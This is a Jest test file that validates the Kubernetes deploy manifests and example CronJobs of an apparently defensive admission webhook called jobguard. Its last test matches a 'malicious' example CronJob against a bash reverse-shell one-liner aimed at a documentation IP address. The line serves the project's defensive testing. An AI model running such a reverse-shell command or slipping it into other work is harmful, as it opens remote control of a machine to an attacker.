/**
 * deploy/: the plain manifests must equal a fresh render of the chart, and every object in them
 * and in the examples must be a valid Kubernetes object.
 */
/* eslint-disable @typescript-eslint/no-explicit-any -- rendered YAML is untyped; these tests assert its shape. */
import { describe, expect, it } from '@jest/globals';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { ValidatingWebhookConfiguration } from 'kubernetes-models/admissionregistration.k8s.io/v1';
import { CustomResourceDefinition } from 'kubernetes-models/apiextensions.k8s.io/v1';
import { Deployment } from 'kubernetes-models/apps/v1';
import { CronJob } from 'kubernetes-models/batch/v1';
import { PodDisruptionBudget } from 'kubernetes-models/policy/v1';
import { ClusterRole, ClusterRoleBinding } from 'kubernetes-models/rbac.authorization.k8s.io/v1';
import { ConfigMap, Service, ServiceAccount } from 'kubernetes-models/v1';
import { parseAllDocuments } from 'yaml';
import { helmPath, ROOT, type K8sObject } from './support/helm.js';

const run = promisify(execFile);

const MODELS: Record<string, new (data: never) => { validate(): void }> = {
  'v1/ConfigMap': ConfigMap,
  'v1/Service': Service,
  'v1/ServiceAccount': ServiceAccount,
  'apps/v1/Deployment': Deployment,
  'batch/v1/CronJob': CronJob,
  'policy/v1/PodDisruptionBudget': PodDisruptionBudget,
  'rbac.authorization.k8s.io/v1/ClusterRole': ClusterRole,
  'rbac.authorization.k8s.io/v1/ClusterRoleBinding': ClusterRoleBinding,
  'admissionregistration.k8s.io/v1/ValidatingWebhookConfiguration': ValidatingWebhookConfiguration,
  'apiextensions.k8s.io/v1/CustomResourceDefinition': CustomResourceDefinition,
};

function load(file: string): K8sObject[] {
  return parseAllDocuments(readFileSync(join(ROOT, file), 'utf8'))
    .map((doc) => doc.toJS() as K8sObject | null)
    .filter((doc): doc is K8sObject => doc !== null);
}

function validate(o: K8sObject): void {
  const Model = MODELS[`${o.apiVersion}/${o.kind}`];
  if (Model) new Model(o as never).validate();
  else expect(o.apiVersion).toBe('cert-manager.io/v1');
}

const webhookOf = (docs: K8sObject[]): any =>
  (docs.find((o) => o.kind === 'ValidatingWebhookConfiguration') as any).webhooks[0];

describe('deploy/manifests', () => {
  it('matches the chart (re-render with test/support/render-deploy.mjs --check)', async () => {
    const script = join(ROOT, 'test/support/render-deploy.mjs');
    const result = await run(process.execPath, [script, '--check'], {
      cwd: ROOT,
      env: { ...process.env, HELM: helmPath() },
    }).catch((error: unknown) => error as { code: number; stderr: string });
    expect('code' in result ? result.stderr : '').toBe('');
  });

  it.each(['deploy/manifests/jobguard.yaml', 'deploy/manifests/jobguard-cert-manager.yaml'])(
    '%s holds only valid objects for namespace jobguard',
    (file) => {
      const docs = load(file);
      expect(docs.length).toBeGreaterThanOrEqual(8);
      for (const o of docs) {
        validate(o);
        const clusterScoped = ['ValidatingWebhookConfiguration', 'CustomResourceDefinition'];
        if (!o.kind.startsWith('ClusterRole') && !clusterScoped.includes(o.kind)) {
          expect(o.metadata.namespace).toBe('jobguard');
        }
      }
      expect(webhookOf(docs).namespaceSelector.matchExpressions[0].values).toEqual([
        'kube-system',
        'jobguard',
      ]);
    },
  );

  it('contains no private key or generated certificate', () => {
    for (const file of ['deploy/manifests/jobguard.yaml', 'deploy/manifests/jobguard-cert-manager.yaml']) {
      const docs = load(file);
      expect(docs.filter((o) => o.kind === 'Secret')).toEqual([]);
      expect(webhookOf(docs).clientConfig.caBundle).toBeUndefined();
    }
  });

  it('documents how to create the Secret the plain manifest mounts and how to set the caBundle', () => {
    const deployment: any = load('deploy/manifests/jobguard.yaml').find((o) => o.kind === 'Deployment');
    const secretName = deployment.spec.template.spec.volumes.find((v: any) => v.name === 'tls').secret
      .secretName;
    expect(secretName).toBe('jobguard-tls');
    const readme = readFileSync(join(ROOT, 'deploy/README.md'), 'utf8');
    expect(readme).toContain(`create secret generic ${secretName} --type=kubernetes.io/tls`);
    expect(readme).toContain('/webhooks/0/clientConfig/caBundle');
    expect(readme).toContain('kubectl delete validatingwebhookconfiguration jobguard');
  });
});

describe('deploy/examples', () => {
  const container = (file: string): any => {
    const [cronJob] = load(file) as any[];
    validate(cronJob);
    return cronJob.spec.jobTemplate.spec.template.spec.containers[0];
  };

  it('benign-cronjob.yaml is the Kubernetes documentation hello CronJob', () => {
    const [cronJob] = load('deploy/examples/benign-cronjob.yaml') as any[];
    expect(cronJob.metadata.name).toBe('hello');
    expect(cronJob.spec.schedule).toBe('* * * * *');
    expect(container('deploy/examples/benign-cronjob.yaml')).toEqual(
      expect.objectContaining({
        image: 'busybox:1.28',
        command: ['/bin/sh', '-c', 'date; echo Hello from the Kubernetes cluster'],
      }),
    );
  });

  it('malicious-cronjob.yaml runs a reverse shell on alpine, to a documentation address', () => {
    const c = container('deploy/examples/malicious-cronjob.yaml');
    expect(c.image).toMatch(/^alpine(:|$)/);
    expect(c.command.join(' ')).toMatch(/bash -i >& \/dev\/tcp\/203\.0\.113\.\d+\/\d+ 0>&1/);
  });
});
